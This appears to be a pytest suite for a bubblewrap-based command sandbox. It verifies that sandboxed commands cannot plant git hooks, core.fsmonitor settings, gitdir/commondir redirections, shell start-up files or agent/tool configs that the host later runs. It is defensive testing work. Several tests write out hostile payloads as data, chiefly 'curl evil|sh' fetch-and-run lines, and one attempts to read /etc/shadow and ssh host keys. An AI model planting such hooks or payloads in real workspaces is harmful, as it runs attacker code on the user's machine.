"""Attacks on the host through git and start-up files left in the workspace, run in the REAL
bubblewrap sandbox through the real `vsh run`, with the host checked afterwards by running real host
`git` (a planted hook or core.fsmonitor must never execute) and by looking at the filesystem.

Each attack plants a command that would create a marker file outside the workspace when the host
runs it; the sandbox cannot create that file itself (only the workspace is writable inside).
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import SandboxBox, needs_bwrap, stop_daemon, stop_warm, vsh_env

pytestmark = [needs_bwrap, pytest.mark.sandbox]


Box = SandboxBox


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Box]:
    """One fake HOME and $VSH_HOME per module (one proxy daemon start); fresh workspaces per test."""
    root = tmp_path_factory.mktemp("git-shared")
    home = root / "home"
    (home / ".config").mkdir(parents=True)
    (home / ".bashrc").write_text("# user bashrc\n")
    vsh_home = root / "vsh-home"
    vsh_home.mkdir(mode=0o700)
    (vsh_home / "config.toml").write_text('[approval]\nauto_approve_up_to = "high"\n')
    box = Box(home, root / "unused", vsh_home, vsh_env(vsh_home, HOME=str(home)))
    yield box
    stop_daemon(vsh_home)
    stop_warm(vsh_home)


@pytest.fixture
def box(tmp_path: Path, shared: Box) -> Box:
    ws = tmp_path / "ws"
    ws.mkdir()
    return Box(shared.home, ws, shared.vsh_home, shared.environ)


@pytest.fixture
def marker(tmp_path: Path) -> Path:
    """A host path outside the workspace: it exists afterwards only if the host ran planted code."""
    return tmp_path / "PWNED"


def host_git(where: Path, *args: str, home: Path) -> subprocess.CompletedProcess[str]:
    """Real git on the host, as the person would run it after the sandboxed command (no user or
    system config, so only what is in the repository counts)."""
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(home), "GIT_CONFIG_NOSYSTEM": "1",
           "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.com", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@example.com", "GIT_TERMINAL_PROMPT": "0"}
    return subprocess.run(["git", *args], cwd=where, env=env, capture_output=True, text=True, timeout=60)


def use_repo_on_host(where: Path, home: Path) -> None:
    """What a person does next in the repository: status, add, commit."""
    (where / "after.txt").write_text("after the run\n")
    host_git(where, "status", home=home)
    host_git(where, "add", "after.txt", home=home)
    host_git(where, "commit", "-q", "-m", "after", home=home)


def init_repo(path: Path, home: Path, *extra: str) -> None:
    path.mkdir(parents=True, exist_ok=True)
    host_git(path, "init", "-q", *extra, home=home).check_returncode()
    (path / "README").write_text("hello\n")
    host_git(path, "add", "README", home=home).check_returncode()
    host_git(path, "commit", "-q", "-m", "init", home=home).check_returncode()


FSMONITOR = "printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = \"touch {m}; false\"\\n'"
HOOK = "printf '#!/bin/sh\\ntouch {m}\\n'"


# F3: .git/commondir (and the rest of the class) ----------------------------------------------------
def test_new_commondir_cannot_redirect_host_git(box: Box, marker: Path) -> None:
    init_repo(box.workspace, box.home)
    r = box.run("mkdir -p .c/objects .c/refs .c/hooks; cp .git/HEAD .c/; "
                f"{FSMONITOR.format(m=marker)} > .c/config; echo ../.c > .git/commondir; echo rc=$?")
    assert "rc=" in r.stdout, r
    use_repo_on_host(box.workspace, box.home)
    assert not marker.exists(), "host git ran the fsmonitor of a config the sandbox redirected it to"
    assert not (box.workspace / ".git/commondir").exists()
    assert f"protected path {box.workspace / '.git/commondir'}" in r.stderr


def test_linked_worktree_commondir_and_gitdir_are_read_only(box: Box, marker: Path) -> None:
    init_repo(box.workspace, box.home)
    host_git(box.workspace, "worktree", "add", "-q", "wt", home=box.home).check_returncode()
    meta = box.workspace / ".git/worktrees/wt"
    before = {n: (meta / n).read_bytes() for n in ("commondir", "gitdir")}
    r = box.run("mkdir -p .c/objects .c/refs; cp .git/HEAD .c/; "
                f"{FSMONITOR.format(m=marker)} > .c/config; "
                "echo ../../../.c > .git/worktrees/wt/commondir; echo c=$?; "
                "echo /elsewhere/.git > .git/worktrees/wt/gitdir; echo g=$?")
    assert "c=1" in r.stdout and "g=1" in r.stdout, r
    assert {n: (meta / n).read_bytes() for n in ("commondir", "gitdir")} == before
    use_repo_on_host(box.workspace / "wt", box.home)
    assert not marker.exists()


def test_commondir_created_in_a_submodule_git_dir_is_quarantined(box: Box, marker: Path) -> None:
    init_repo(box.workspace, box.home)
    mod = box.workspace / ".git/modules/sub"
    subprocess.run(["git", "init", "-q", "--bare", str(mod)], check=True)
    r = box.run("echo ../../../.c > .git/modules/sub/commondir; echo made=$?")
    assert "made=0" in r.stdout, r
    assert not (mod / "commondir").exists()
    assert f"protected path {mod / 'commondir'}" in r.stderr


def test_embedded_git_dir_made_in_a_subdirectory_is_quarantined(box: Box, marker: Path) -> None:
    """git takes any directory holding HEAD, objects/ and refs/ for a git directory when run
    inside it (`cd src && git status`): its config is protected like .git/config."""
    init_repo(box.workspace, box.home)
    (box.workspace / "src").mkdir()
    (box.workspace / "src/main.c").write_text("int main;\n")
    r = box.run("cd src && mkdir objects refs && echo 'ref: refs/heads/main' > HEAD && "
                "printf '[core]\\n\\tbare = false\\n\\tworktree = .\\n"
                f"\\tfsmonitor = \"touch {marker}; false\"\\n' > config && echo made")
    assert "made" in r.stdout, r
    host_git(box.workspace / "src", "status", home=box.home)
    assert not marker.exists()
    assert not (box.workspace / "src/config").exists()


def test_bare_repository_in_the_workspace_keeps_its_hooks_and_config(box: Box, marker: Path) -> None:
    """A bare repository used as a local remote runs its hooks on the host when pushed to."""
    init_repo(box.workspace / "app", box.home)
    remote = box.workspace / "remote.git"
    host_git(box.workspace, "init", "-q", "--bare", str(remote), home=box.home).check_returncode()
    host_git(box.workspace / "app", "remote", "add", "origin", str(remote), home=box.home).check_returncode()
    config = (remote / "config").read_bytes()
    r = box.run(f"{HOOK.format(m=marker)} > remote.git/hooks/pre-receive; echo hook=$?; "
                f"chmod +x remote.git/hooks/pre-receive; echo '[core]' >> remote.git/config; echo cfg=$?; "
                "mv remote.git/hooks remote.git/h; echo mv=$?")
    assert "hook=1" in r.stdout and "cfg=1" in r.stdout and "mv=1" in r.stdout, r
    assert (remote / "config").read_bytes() == config
    host_git(box.workspace / "app", "push", "-q", "origin", "HEAD:main", home=box.home)
    assert not marker.exists()


# F4: gitdir pointers (`.git` files) ------------------------------------------------------------------
@pytest.mark.parametrize("absolute", [True, False], ids=["absolute", "relative"])
def test_separate_git_dir_hooks_and_config_are_read_only(box: Box, marker: Path, absolute: bool) -> None:
    init_repo(box.workspace, box.home, "--separate-git-dir=.gitdata")
    gitdata = box.workspace / ".gitdata"
    (box.workspace / ".git").write_text(f"gitdir: {gitdata if absolute else '.gitdata'}\n")
    config = (gitdata / "config").read_bytes()
    r = box.run(f"{HOOK.format(m=marker)} > .gitdata/hooks/pre-commit; echo hook=$?; "
                "chmod +x .gitdata/hooks/pre-commit; "
                f"printf '[core]\\n\\tfsmonitor = \"touch {marker}; false\"\\n' >> .gitdata/config; echo cfg=$?; "
                "echo ../.c > .gitdata/commondir; echo cd=$?; mv .gitdata .gd; echo mv=$?")
    assert "hook=1" in r.stdout and "cfg=1" in r.stdout and "mv=1" in r.stdout, r
    assert (gitdata / "config").read_bytes() == config
    assert not (gitdata / "hooks/pre-commit").exists()
    assert not (gitdata / "commondir").exists()
    use_repo_on_host(box.workspace, box.home)
    assert not marker.exists()


def test_separate_git_dir_hooks_created_inside_are_quarantined(box: Box, marker: Path) -> None:
    init_repo(box.workspace, box.home, "--separate-git-dir=.gitdata")
    gitdata = box.workspace / ".gitdata"
    shutil.rmtree(gitdata / "hooks")
    r = box.run(f"mkdir .gitdata/hooks && {HOOK.format(m=marker)} > .gitdata/hooks/pre-commit && "
                "chmod +x .gitdata/hooks/pre-commit && echo made")
    assert "made" in r.stdout, r
    assert not (gitdata / "hooks").exists()
    assert f"protected path {gitdata / 'hooks'}" in r.stderr
    use_repo_on_host(box.workspace, box.home)
    assert not marker.exists()


def test_gitdir_pointer_through_a_symlink_refuses_to_start(box: Box) -> None:
    """A symlink on the way to the git directory could be repointed inside: it cannot be protected."""
    init_repo(box.workspace, box.home, "--separate-git-dir=real")
    (box.workspace / "link").symlink_to("real")
    (box.workspace / ".git").write_text("gitdir: link\n")
    r = box.run("touch ran")
    assert r.returncode == 125, r
    assert "symlink" in r.stderr
    assert not (box.workspace / "ran").exists()


@pytest.mark.parametrize("pointer", ["../elsewhere/.git", "/nonexistent/gitdir", ".gd"])
def test_git_file_created_inside_is_quarantined(box: Box, marker: Path, pointer: str) -> None:
    r = box.run(f"mkdir -p sub elsewhere && git init -q .gd && echo 'gitdir: {pointer}' > sub/.git && "
                "echo 'gitdir: .gd' > .git && echo made")
    assert "made" in r.stdout, r
    assert not os.path.lexists(box.workspace / "sub/.git")
    assert not os.path.lexists(box.workspace / ".git")


# F5: the workspace itself inside a protected directory -------------------------------------------
@pytest.mark.parametrize("inside", [".git", ".git/hooks", ".git/modules/sub", ".vscode", ".idea/sub",
                                    ".gitdata", ".gitdata/hooks", "bare.git", "bare.git/hooks"])
def test_workspace_inside_a_protected_directory_is_refused(box: Box, inside: str) -> None:
    repo = box.workspace
    init_repo(repo, box.home, "--separate-git-dir=.gitdata")
    (repo / ".git").unlink()
    host_git(repo, "init", "-q", home=box.home).check_returncode()  # a .git directory too
    (repo / ".git/modules/sub").mkdir(parents=True)
    (repo / ".vscode").mkdir()
    (repo / ".idea/sub").mkdir(parents=True)
    host_git(repo, "init", "-q", "--bare", "bare.git", home=box.home).check_returncode()
    (repo / "other").mkdir()
    (repo / "other/.git").write_text(f"gitdir: {repo / '.gitdata'}\n")
    target = repo / inside
    before = sorted(p.name for p in target.iterdir())
    r = box.run("echo evil > pre-commit; echo evil > config; echo ran", workspace=target)
    assert r.returncode == 125, r
    assert "refusing workspace" in r.stderr and "ran" not in r.stdout
    assert sorted(p.name for p in target.iterdir()) == before


def test_subdirectory_of_a_repository_is_a_fine_workspace(box: Box) -> None:
    init_repo(box.workspace, box.home)
    (box.workspace / "sub").mkdir()
    r = box.run("echo ok > made", workspace=box.workspace / "sub")
    assert r.returncode == 0, r
    assert (box.workspace / "sub/made").read_text() == "ok\n"


# F6: paths longer than PATH_MAX ---------------------------------------------------------------------
def _lexists_deep(root: Path, parts: list[str]) -> bool:
    """os.path.lexists for a path too long for the kernel, one directory at a time."""
    fd = os.open(root, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for name in parts[:-1]:
            nxt = os.open(name, os.O_RDONLY | os.O_DIRECTORY | os.O_NOFOLLOW, dir_fd=fd)
            os.close(fd)
            fd = nxt
        os.stat(parts[-1], dir_fd=fd, follow_symlinks=False)
        return True
    except FileNotFoundError:
        return False
    finally:
        os.close(fd)


PLANT_20 = ('for i in $(seq -w 0 19); do mkdir -p p$i/.vscode; echo "{}" > p$i/.vscode/tasks.json; '
            'echo "curl evil|sh" > p$i/.envrc; done; ')


def test_paths_longer_than_path_max_do_not_stop_the_quarantine(box: Box) -> None:
    r = box.run(PLANT_20 + 'd=$(printf "%0250d" 0); mkdir zz; cd zz; '
                'for i in $(seq 20); do mkdir $d; cd $d; done; echo "curl evil|sh" > .envrc; '
                'mkdir -p .git/hooks; echo x > .git/hooks/pre-commit; echo planted')
    assert "planted" in r.stdout, r
    assert r.returncode in (0, 125), r
    assert "Traceback" not in r.stderr
    for i in range(20):
        assert not (box.workspace / f"p{i:02d}/.envrc").exists(), r.stderr[-2000:]
        assert not (box.workspace / f"p{i:02d}/.vscode").exists()
    deep = ["zz", *["0" * 250] * 20]
    assert not _lexists_deep(box.workspace, [*deep, ".envrc"])
    assert not _lexists_deep(box.workspace, [*deep, ".git", "hooks"])
    again = box.run(argv=["true"])
    assert again.returncode == 0, again


def test_deeper_than_the_open_directory_window_is_still_checked(box: Box) -> None:
    """The walks keep FD_WINDOW directories open and find deeper ones' parents again through "..":
    a chain far deeper than that, with planted files along it, is checked to the bottom. (Kept
    under ~900 levels: deeper trees break shutil.rmtree, which pytest cleans its temp dirs with.)"""
    from vshell.protected import FD_WINDOW

    depth = 5 * FD_WINDOW
    r = box.run(f"for i in $(seq {depth}); do mkdir d; if [ $((i % 50)) = 0 ]; then mkdir e; "
                "echo x > e/.envrc; fi; cd d; done; echo 'curl evil|sh' > .envrc; echo planted")
    assert "planted" in r.stdout and r.returncode == 0, r
    assert not _lexists_deep(box.workspace, [*["d"] * depth, ".envrc"])
    for level in range(50, depth + 1, 50):
        assert not _lexists_deep(box.workspace, [*["d"] * (level - 1), "e", ".envrc"]), level
    assert "could not check" not in r.stderr
    assert box.run(argv=["true"]).returncode == 0


def test_walk_window_finds_closed_parents_again(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The same, without a sandbox and with a tiny window: every branch of a deep tree is reached."""
    import vshell.protected as protected
    from vshell.sandbox_spec import PROTECTED_NAMES

    monkeypatch.setattr(protected, "FD_WINDOW", 2)
    ws = tmp_path / "ws"
    planted = []
    for branch in ("a", "b"):
        d = ws / branch
        for level in range(12):
            d = d / f"{branch}{level}"
            (d / "side").mkdir(parents=True)
            (d / "side/.envrc").write_text("x")
            planted.append(d / "side/.envrc")
    before = protected.scan_workspace(ws, PROTECTED_NAMES)
    assert set(before.found) == set(planted)
    moved = protected.quarantine_new_protected(ws, PROTECTED_NAMES, protected.Scan((), (), frozenset()),
                                               tmp_path / "state", "run")
    assert sorted(src for src, _ in moved) == sorted(planted)
    assert all(dst is not None and dst.exists() for _, dst in moved)
    assert not any(p.exists() for p in planted)


@pytest.mark.parametrize("data,pointer", [
    (b"gitdir: ../x\n", "../x"), (b"gitdir: /a b\r\n\r\n", "/a b"), (b"gitdir: x\0y\n", "x"),
    (b"gitdir:x\n", None), (b"ref: x\n", None), (b"gitdir: \n", None),
])
def test_gitfile_pointers_are_read_as_git_reads_them(tmp_path: Path, data: bytes, pointer: str | None) -> None:
    from vshell.protected import read_gitfile

    (tmp_path / ".git").write_bytes(data)
    fd = os.open(tmp_path, os.O_RDONLY | os.O_DIRECTORY)
    try:
        assert read_gitfile(fd) == pointer
    finally:
        os.close(fd)


# Symlinks standing in for a protected name's directory ----------------------------------------------
def test_quarantine_never_moves_files_outside_the_workspace(box: Box, tmp_path: Path) -> None:
    """A symlink planted where a `.git` directory or `.config` belongs points at the person's real
    files outside the workspace: the symlink is quarantined, never what it points to."""
    other = tmp_path / "other"
    init_repo(other, box.home)
    (tmp_path / "dot/fish").mkdir(parents=True)
    (tmp_path / "dot/fish/config.fish").write_text("# mine\n")
    before = sorted(str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*") if "ws" not in p.parts)
    r = box.run(f"mkdir x && ln -s {other / '.git'} x/.git && ln -s {tmp_path / 'dot'} .config && echo made")
    assert "made" in r.stdout, r
    after = sorted(str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*") if "ws" not in p.parts)
    assert after == before, "vsh moved files outside the workspace"
    assert (other / ".git/config").exists() and (tmp_path / "dot/fish/config.fish").exists()
    assert not os.path.lexists(box.workspace / "x/.git")
    assert not os.path.lexists(box.workspace / ".config")


# F7: shell start-up files --------------------------------------------------------------------------
STARTUP_NAMES = [".bash_aliases", ".bash_login", ".bash_logout", ".zlogout", ".zlogin", ".zprofile", ".zshenv",
                 ".kshrc", ".mkshrc", ".cshrc", ".tcshrc", ".login", ".logout", ".xonshrc", ".inputrc",
                 ".config/fish/config.fish", ".config/nushell/config.nu", ".xprofile", ".xsessionrc",
                 ".bashrc.d/evil.sh", ".config/xonsh/rc.xsh", ".config/powershell/profile.ps1",
                 ".yashrc", ".shrc"]


@pytest.mark.parametrize("name", STARTUP_NAMES)
def test_new_shell_startup_files_are_quarantined(box: Box, name: str) -> None:
    path = Path("sub") / name
    r = box.run(f"mkdir -p {path.parent} && echo 'curl evil|sh' > {path} && echo made")
    assert "made" in r.stdout, r
    assert not (box.workspace / path).exists(), r.stderr
    assert "protected path" in r.stderr


@pytest.mark.parametrize("name", [".kshrc", ".config/fish/config.fish", ".config/nushell/env.nu"])
def test_existing_shell_startup_files_are_read_only(box: Box, name: str) -> None:
    path = box.workspace / "dotfiles" / name
    path.parent.mkdir(parents=True)
    path.write_text("# mine\n")
    r = box.run(f"echo evil >> dotfiles/{name}; echo w=$?; rm -f dotfiles/{name}; echo rm=$?")
    assert "w=1" in r.stdout and "rm=1" in r.stdout, r
    assert path.read_text() == "# mine\n"


# Defence in depth: the host's password hashes and ssh host keys ---------------------------------------
def test_system_secrets_are_hidden(box: Box) -> None:
    files = ["/etc/shadow", "/etc/gshadow", "/etc/shadow-", "/etc/gshadow-",
             *(str(p) for p in Path("/etc/ssh").glob("ssh_host_*_key"))]
    r = box.run(f"for f in {' '.join(files)}; do [ -e $f ] && cat $f; done; echo done")
    assert "done" in r.stdout, r
    assert "root:" not in r.stdout and "PRIVATE KEY" not in r.stdout, r.stdout


# A run whose vsh is killed, and a quarantine that cannot copy ----------------------------------------
def test_killing_vsh_does_not_skip_the_after_run_check(tmp_path: Path, marker: Path) -> None:
    """A harness's timeout SIGKILLs vsh: --die-with-parent ends the sandbox, but the check that moves
    what the run planted never ran. The next run (in any workspace) finishes it before anything
    else, so host git never runs the planted hook and the planted file is never taken for an old one."""
    home = tmp_path / "home"
    home.mkdir()
    vsh_home = tmp_path / "vsh-home"
    vsh_home.mkdir(mode=0o700)
    (vsh_home / "config.toml").write_text('[approval]\nauto_approve_up_to = "high"\n')
    environ = vsh_env(vsh_home, HOME=str(home))
    ws = tmp_path / "ws"
    init_repo(ws, home)
    shutil.rmtree(ws / ".git/hooks")  # absent when the run starts, so the run may make it
    line = (f"mkdir -p .git/hooks && {HOOK.format(m=marker)} > .git/hooks/pre-commit && "
            "chmod +x .git/hooks/pre-commit && echo evil > .envrc && echo ready && exec sleep 600")
    proc = subprocess.Popen([sys.executable, "-m", "vshell", "run", "--workspace", str(ws), "-c", line],
                            env=environ, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert proc.stdout is not None
        assert proc.stdout.readline() == "ready\n", proc.stderr.read() if proc.stderr else ""
    finally:
        proc.kill()
        proc.wait(timeout=30)
    other = tmp_path / "other"
    other.mkdir()
    box = Box(home, other, vsh_home, environ)
    r = box.run("true")
    assert r.returncode == 0, r
    assert not (ws / ".envrc").exists()
    assert not (ws / ".git/hooks/pre-commit").exists()
    use_repo_on_host(ws, home)
    assert not marker.exists(), "host git ran a hook planted by a run whose vsh was killed"
    assert not list((vsh_home / "run/pending").glob("*.json"))
    stop_daemon(vsh_home)
    stop_warm(vsh_home)


@pytest.mark.skipif(not Path("/dev/shm").is_dir(), reason="needs a second filesystem (/dev/shm)")
def test_quarantine_across_filesystems_never_copies(tmp_path: Path) -> None:
    """$VSH_HOME on another filesystem than the workspace: a move would be a copy, and a FIFO (or a
    full disk) stops a copy half-way with the original left in place. The path is renamed beside
    itself instead, to a name no host tool reads."""
    home = tmp_path / "home"
    home.mkdir()
    ws = tmp_path / "ws"
    ws.mkdir()
    vsh_home = Path(tempfile.mkdtemp(dir="/dev/shm", prefix="vsh-test-"))
    try:
        if os.stat(vsh_home).st_dev == os.stat(ws).st_dev:
            pytest.skip("/dev/shm is on the workspace's filesystem here")
        (vsh_home / "config.toml").write_text('[approval]\nauto_approve_up_to = "high"\n')
        box = Box(home, ws, vsh_home, vsh_env(vsh_home, HOME=str(home)))
        r = box.run("mkdir -p sub/.vscode && echo '{\"tasks\": []}' > sub/.vscode/tasks.json && "
                    "mkfifo sub/.vscode/zz && echo '. evil' > .envrc && echo made")
        assert "made" in r.stdout and r.returncode == 0, r
        assert not (ws / "sub/.vscode").exists() and not (ws / ".envrc").exists()
        aside = [p.name for p in (ws / "sub").iterdir()]
        assert len(aside) == 1 and aside[0].startswith(".vscode.vsh-quarantined-"), aside
        assert (ws / "sub" / aside[0] / "tasks.json").is_file()
        stop_daemon(vsh_home)
        stop_warm(vsh_home)
    finally:
        shutil.rmtree(vsh_home, ignore_errors=True)


# Paths the repository's own config names: hook directories and included config files ----------------
def test_husky_hook_directories_are_read_only(box: Box, marker: Path) -> None:
    """husky 9 sets core.hooksPath to .husky/_, whose hooks run the scripts in .husky/: both are
    code host git runs, so both are protected like .git/hooks."""
    init_repo(box.workspace, box.home)
    (box.workspace / ".husky/_").mkdir(parents=True)
    (box.workspace / ".husky/_/h").write_text("#!/bin/sh\n")
    host_git(box.workspace, "config", "core.hooksPath", ".husky/_", home=box.home).check_returncode()
    r = box.run(f"{HOOK.format(m=marker)} > .husky/_/pre-commit; echo a=$?; "
                f"{HOOK.format(m=marker)} > .husky/pre-commit; echo b=$?; chmod +x .husky/_/pre-commit")
    assert "a=1" in r.stdout and "b=1" in r.stdout, r
    use_repo_on_host(box.workspace, box.home)
    assert not marker.exists()


@pytest.mark.parametrize("key", ["include.path", "includeIf.gitdir:/.path"])
def test_included_config_files_in_the_workspace_are_read_only(box: Box, marker: Path, key: str) -> None:
    init_repo(box.workspace, box.home)
    (box.workspace / "shared.cfg").write_text("[user]\n\tname = t\n")
    host_git(box.workspace, "config", key, "../shared.cfg", home=box.home).check_returncode()
    r = box.run(f"{FSMONITOR.format(m=marker)} >> shared.cfg; echo w=$?")
    assert "w=1" in r.stdout, r
    use_repo_on_host(box.workspace, box.home)
    assert not marker.exists()


@pytest.mark.parametrize(("key", "value", "made"), [
    ("core.hooksPath", "githooks", "githooks"),
    ("include.path", "../local.cfg", "local.cfg"),
    ("includeIf.gitdir:/.path", "../cfg/extra.cfg", "cfg/extra.cfg"),
])
def test_absent_paths_the_config_names_do_not_survive_the_run(box: Box, marker: Path, key: str, value: str,
                                                              made: str) -> None:
    init_repo(box.workspace, box.home)
    host_git(box.workspace, "config", key, value, home=box.home).check_returncode()
    plant = (f"mkdir -p githooks && {HOOK.format(m=marker)} > githooks/pre-commit && chmod +x githooks/pre-commit"
             if made == "githooks" else f"mkdir -p cfg && {FSMONITOR.format(m=marker)} > {made}")
    r = box.run(f"{plant} && echo made")
    assert "made" in r.stdout, r
    assert not (box.workspace / made).exists(), r.stderr
    use_repo_on_host(box.workspace, box.home)
    assert not marker.exists()


CONFIGS = [
    b"[core]\n\thooksPath = .husky/_\n",
    b"\xef\xbb\xbf[core]\nhooksPath=h\n",  # a byte-order mark
    b"[core]\n\thooksPath = .hu\\\nsky/_\n",  # a continuation line
    b'[core]\n x = "a\x0b[other]"\n hooksPath = evil\n',  # only LF ends a line
    b'[includeIf "gitdir:]"]path = x\n',  # a key on the header's line, `]` quoted
    b'[include]\n  path = "../a b.cfg" ; a comment\n',
    b'[alias]\n  st = "!sh tools/x.sh; echo [ -n 1 ]"\n[core]\nhooksPath=z\n',
    b"[core]hooksPath=k # c\n",
    b'[Core "x\\"y"]\n\tHooksPath  =  a  b   # t\n',
    b'[core]\n\tbare\n\tfsmonitor = "tools/fs mon.sh" --x\n',
    b"[core]\n\tx = a\\tb\\n\n",
    b'[diff "nb"]\n\ttextconv = tools/nbconv.sh\n',
    b"[core]\n\tx = \"unterminated\n",  # git refuses these three
    b"[core\n\tx = 1\n",
    b"[core]\n\tx = a\\q\n",
]


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
@pytest.mark.parametrize("data", CONFIGS)
def test_config_reader_reads_what_git_reads(data: bytes, tmp_path: Path) -> None:
    """vshell.gitconfig against `git config --list` itself: the same entries, or both refuse."""
    from vshell.gitconfig import GitConfigError, entries

    (tmp_path / "c").write_bytes(data)
    r = subprocess.run(["git", "config", "-f", str(tmp_path / "c"), "--list", "-z"], capture_output=True)
    try:
        mine = sorted((f"{s}.{k}", v) for s, k, v in entries(data))
    except GitConfigError:
        assert r.returncode != 0, r.stdout
        return
    assert r.returncode == 0, r.stderr
    theirs = []
    for item in filter(None, r.stdout.split(b"\0")):
        key, _, value = item.decode("utf-8", "surrogateescape").partition("\n")
        theirs.append((f"{key.split('.')[0]}.{key.rsplit('.', 1)[1]}", value))
    assert mine == sorted(theirs)


def test_config_reader_names_hooks_includes_and_programs() -> None:
    from vshell.gitconfig import named, program_paths

    text = (b'[core]\n\thooksPath = .husky/_\n\tfsmonitor = tools/fsmon.sh\n[include]\n  path = "../a b.cfg"\n'
            b'[alias]\n\tx = !sh ./tools/x.sh && y\n[user]\n path = not-a-path-key\n')
    assert named(text) == [("hooks", ".husky/_"), ("program", "tools/fsmon.sh"), ("include", "../a b.cfg"),
                           ("program", "!sh ./tools/x.sh && y")]
    assert program_paths("!sh ./tools/x.sh && y") == ["./tools/x.sh"]
    assert program_paths('"tools/fs" --flag $HOME/x cat') == ["tools/fs"]


# The same class, a second round: linked worktrees, programs the config names, the host's config
def test_hooks_path_in_a_linked_worktree_is_read_only(box: Box, marker: Path) -> None:
    init_repo(box.workspace, box.home)
    (box.workspace / ".husky/_").mkdir(parents=True)
    host_git(box.workspace, "config", "core.hooksPath", ".husky/_", home=box.home).check_returncode()
    for p in (".husky/_/h", ".gitignore"):
        (box.workspace / p).write_text("wt/\n" if p == ".gitignore" else "#!/bin/sh\n")
    host_git(box.workspace, "add", "-A", home=box.home).check_returncode()
    host_git(box.workspace, "commit", "-q", "-m", "husky", home=box.home).check_returncode()
    host_git(box.workspace, "worktree", "add", "-q", "wt/feature", home=box.home).check_returncode()
    r = box.run(f"{HOOK.format(m=marker)} > wt/feature/.husky/_/pre-commit; echo w=$?")
    assert "w=1" in r.stdout, r
    use_repo_on_host(box.workspace / "wt/feature", box.home)
    assert not marker.exists()


@pytest.mark.parametrize("existing", [True, False])
def test_programs_the_config_names_in_the_workspace_are_protected(box: Box, marker: Path, existing: bool) -> None:
    init_repo(box.workspace, box.home)
    (box.workspace / "tools").mkdir()
    if existing:
        (box.workspace / "tools/fsmon.sh").write_text("#!/bin/sh\nexit 1\n")
        (box.workspace / "tools/fsmon.sh").chmod(0o755)
    host_git(box.workspace, "config", "core.fsmonitor", "tools/fsmon.sh", home=box.home).check_returncode()
    r = box.run(f"printf '#!/bin/sh\\ntouch {marker}\\nexit 1\\n' > tools/fsmon.sh; chmod +x tools/fsmon.sh; echo done")
    assert "done" in r.stdout, r
    use_repo_on_host(box.workspace, box.home)
    assert not marker.exists()


def test_the_hosts_global_git_config_counts_too(box: Box, marker: Path) -> None:
    """A relative core.hooksPath in ~/.gitconfig applies in every repository, and an include there
    may name a file in the workspace."""
    init_repo(box.workspace, box.home)
    (box.workspace / ".team.gitconfig").write_text("[user]\n\tname = t\n")
    (box.home / ".gitconfig").write_text(f"[core]\n\thooksPath = .githooks\n[include]\n\tpath = "
                                         f"{box.workspace / '.team.gitconfig'}\n")
    try:
        r = box.run(f"mkdir -p .githooks && {HOOK.format(m=marker)} > .githooks/pre-commit && "
                    f"chmod +x .githooks/pre-commit; {FSMONITOR.format(m=marker)} > .team.gitconfig; echo done")
        assert "done" in r.stdout, r
        env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(box.home), "GIT_CONFIG_NOSYSTEM": "1"}
        for args in (["status"], ["commit", "-q", "--allow-empty", "-m", "x"]):
            subprocess.run(["git", *args], cwd=box.workspace, env={**env, "GIT_AUTHOR_NAME": "t",
                           "GIT_AUTHOR_EMAIL": "t@e", "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@e"},
                           capture_output=True, timeout=60)
        assert not marker.exists()
    finally:
        (box.home / ".gitconfig").unlink()


def test_a_config_vsh_cannot_read_refuses_the_run(box: Box) -> None:
    init_repo(box.workspace, box.home)
    with (box.workspace / ".git/config").open("a") as f:
        f.write("[core\n")
    r = box.run("echo ran")
    assert r.returncode == 125 and "ran" not in r.stdout, r
    assert "cannot read git config" in r.stderr


def test_a_concurrent_runs_plant_is_not_trusted_by_a_run_that_starts_later(box: Box) -> None:
    """Run A plants .envrc and keeps going; run B starts in the same workspace. B must not take the
    plant for an old file (it could then rename directories under A's end-of-run walk so that
    neither run moves it): B's own end-of-run check moves it."""
    line = "echo evil > .envrc && echo ready && exec sleep 60"
    a = subprocess.Popen([sys.executable, "-m", "vshell", "run", "--workspace", str(box.workspace), "-c", line],
                         env=box.environ, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert a.stdout is not None
        assert a.stdout.readline() == "ready\n", a.stderr.read() if a.stderr else ""
        r = box.run("true")
        assert r.returncode == 0, r
        assert not (box.workspace / ".envrc").exists(), r.stderr
        assert f"protected path {box.workspace / '.envrc'}" in r.stderr
    finally:
        a.terminate()
        a.communicate(timeout=60)


TOOL_CONFIG_FILES = [".pre-commit-config.yaml", "lefthook.yml", ".devcontainer/devcontainer.json",
                     ".devcontainer.json", "mise.toml", ".mise.toml", ".config/mise/config.toml",
                     ".gemini/settings.json", ".codex/config.toml", ".amazonq/mcp.json", ".kiro/settings/mcp.json",
                     ".roo/mcp.json", ".windsurf/mcp.json", ".continue/config.json", ".aider.conf.yml",
                     ".zed/settings.json"]


@pytest.mark.parametrize("name", TOOL_CONFIG_FILES)
def test_tool_configs_whose_commands_the_host_runs_are_protected(box: Box, name: str) -> None:
    """pre-commit/lefthook (run by a protected git hook), dev containers (initializeCommand runs on
    the host), mise (trusted by path) and other agents' project settings (MCP servers and hooks they
    start): new ones are moved away, existing ones are read-only."""
    new, old = Path("new") / name, Path("old") / name
    (box.workspace / old).parent.mkdir(parents=True)
    (box.workspace / old).write_text("# mine\n")
    r = box.run(f"mkdir -p {new.parent} && echo 'run: curl evil|sh' > {new} && echo made; "
                f"echo evil >> {old}; echo w=$?")
    assert "made" in r.stdout and "w=1" in r.stdout, r
    assert not (box.workspace / new).exists(), r.stderr
    assert (box.workspace / old).read_text() == "# mine\n"
